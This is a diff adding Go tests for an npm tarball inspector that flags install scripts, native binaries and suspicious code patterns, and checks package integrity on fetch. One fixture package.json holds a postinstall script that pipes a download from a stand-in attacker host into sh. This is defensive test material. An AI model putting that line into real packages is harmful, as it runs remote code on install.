@@ -0,0 +1,149 @@
+package npm
+
+import (
+	"context"
+	"crypto/sha512"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"io/fs"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/scagogogo/go-npm-sdk/pkg/registry"
+)
+
+func TestTarballInspectorInspect(t *testing.T) {
+	data := buildTestTarball(t, []testTarballFile{
+		{"package/package.json", 0644, `{"name":"pkg","version":"1.0.0","author":{"name":"someone"},"scripts":{"postinstall":"curl -s https://evil.example.com/x.sh | sh","test":"node test.js"}}`},
+		{"package/index.js", 0644, "const cp = require('child_process');\nmodule.exports = 1;\nconst s = Buffer.from(payload, 'base64');\n"},
+		{"package/README.md", 0644, "eval is discussed in the docs but not called"},
+		{"package/binding.gyp", 0644, "{}"},
+		{"package/build/Release/addon.node", 0755, "\x7fELF\x02\x01\x01\x00"},
+		{"package/logo.png", 0644, "\x89PNG\r\n\x1a\n\x00\x00"},
+	}, time.Now(), 255)
+
+	inspector := NewTarballInspector(nil)
+	tarball, err := inspector.Open(data)
+	if err != nil {
+		t.Fatalf("Open() failed: %v", err)
+	}
+	if len(tarball.Files) != 6 || tarball.Files[0].Path != "README.md" {
+		t.Fatalf("Unexpected files: %+v", tarball.Files)
+	}
+	if content, err := tarball.ReadFile("binding.gyp"); err != nil || string(content) != "{}" {
+		t.Errorf("ReadFile() = %q, %v", content, err)
+	}
+	if _, err := tarball.ReadFile("missing.js"); !errors.Is(err, fs.ErrNotExist) {
+		t.Errorf("Expected fs.ErrNotExist, got %v", err)
+	}
+
+	report, err := inspector.Inspect(tarball)
+	if err != nil {
+		t.Fatalf("Inspect() failed: %v", err)
+	}
+	if report.Name != "pkg" || report.Version != "1.0.0" || report.Files != 6 || !report.HasFindings() {
+		t.Errorf("Unexpected report: %+v", report)
+	}
+	// binding.gyp带来隐式的install脚本
+	expectedScripts := map[string]string{"postinstall": "curl -s https://evil.example.com/x.sh | sh", "install": "node-gyp rebuild"}
+	if !reflect.DeepEqual(report.InstallScripts, expectedScripts) {
+		t.Errorf("Unexpected install scripts: %v", report.InstallScripts)
+	}
+
+	var binaries []string
+	for _, file := range report.BinaryFiles {
+		binaries = append(binaries, fmt.Sprintf("%s native=%v", file.Path, file.Native))
+	}
+	if !reflect.DeepEqual(binaries, []string{"build/Release/addon.node native=true", "logo.png native=false"}) {
+		t.Errorf("Unexpected binary files: %v", binaries)
+	}
+
+	var matches []string
+	for _, match := range report.Suspicious {
+		matches = append(matches, fmt.Sprintf("%s:%d %s", match.Path, match.Line, match.Pattern))
+	}
+	expectedMatches := []string{"index.js:1 child_process", "index.js:3 base64", "package.json#scripts.postinstall:1 download"}
+	if !reflect.DeepEqual(matches, expectedMatches) {
+		t.Errorf("Unexpected suspicious matches: %v", matches)
+	}
+}
+
+func TestTarballInspectorGypfileDisabled(t *testing.T) {
+	data := buildTestTarball(t, []testTarballFile{
+		{"package/package.json", 0644, `{"name":"pkg","version":"1.0.0","gypfile":false}`},
+		{"package/binding.gyp", 0644, "{}"},
+		{"package/index.js", 0644, "module.exports = 1\n"},
+	}, time.Now(), 255)
+
+	path := filepath.Join(t.TempDir(), "pkg-1.0.0.tgz")
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatal(err)
+	}
+	inspector := NewTarballInspector(nil)
+	tarball, err := inspector.OpenFile(path)
+	if err != nil {
+		t.Fatalf("OpenFile() failed: %v", err)
+	}
+	report, err := inspector.Inspect(tarball)
+	if err != nil {
+		t.Fatalf("Inspect() failed: %v", err)
+	}
+	if report.HasFindings() {
+		t.Errorf("Expected no findings, got %+v", report)
+	}
+
+	if _, err := inspector.Open([]byte("not a tarball")); err == nil {
+		t.Error("Expected error for invalid tarball")
+	}
+}
+
+func TestTarballInspectorFetch(t *testing.T) {
+	data := buildTestTarball(t, []testTarballFile{
+		{"package/package.json", 0644, `{"name":"pkg","version":"1.2.0"}`},
+	}, time.Now(), 255)
+	sum := sha512.Sum512(data)
+	integrity := "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
+
+	var server *httptest.Server
+	server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/pkg":
+			fmt.Fprint(w, `{"name":"pkg","dist-tags":{"latest":"1.2.0"},"versions":{"1.1.0":{},"1.2.0":{},"2.0.0":{}}}`)
+		case "/pkg/1.2.0":
+			fmt.Fprintf(w, `{"name":"pkg","version":"1.2.0","dist":{"tarball":"%s/pkg-1.2.0.tgz","integrity":%q}}`, server.URL, integrity)
+		case "/pkg/2.0.0":
+			fmt.Fprintf(w, `{"name":"pkg","version":"2.0.0","dist":{"tarball":"%s/pkg-1.2.0.tgz","integrity":"sha512-AAAA"}}`, server.URL)
+		case "/pkg-1.2.0.tgz":
+			w.Write(data)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+
+	inspector := NewTarballInspector(registry.NewClient(server.URL))
+	tarball, err := inspector.Fetch(context.Background(), "pkg@^1.0.0")
+	if err != nil {
+		t.Fatalf("Fetch() failed: %v", err)
+	}
+	if manifest, err := tarball.Manifest(); err != nil || manifest.Version != "1.2.0" {
+		t.Errorf("Manifest() = %+v, %v", manifest, err)
+	}
+
+	if _, err := inspector.Fetch(context.Background(), "pkg@2.0.0"); err == nil || !strings.Contains(err.Error(), "integrity mismatch") {
+		t.Errorf("Expected integrity error, got %v", err)
+	}
+	if _, err := inspector.Fetch(context.Background(), "pkg@^3.0.0"); err == nil {
+		t.Error("Expected error for unmatched range")
+	}
+	if _, err := NewTarballInspector(nil).Fetch(context.Background(), "pkg"); err == nil {
+		t.Error("Expected error without registry client")
+	}
+}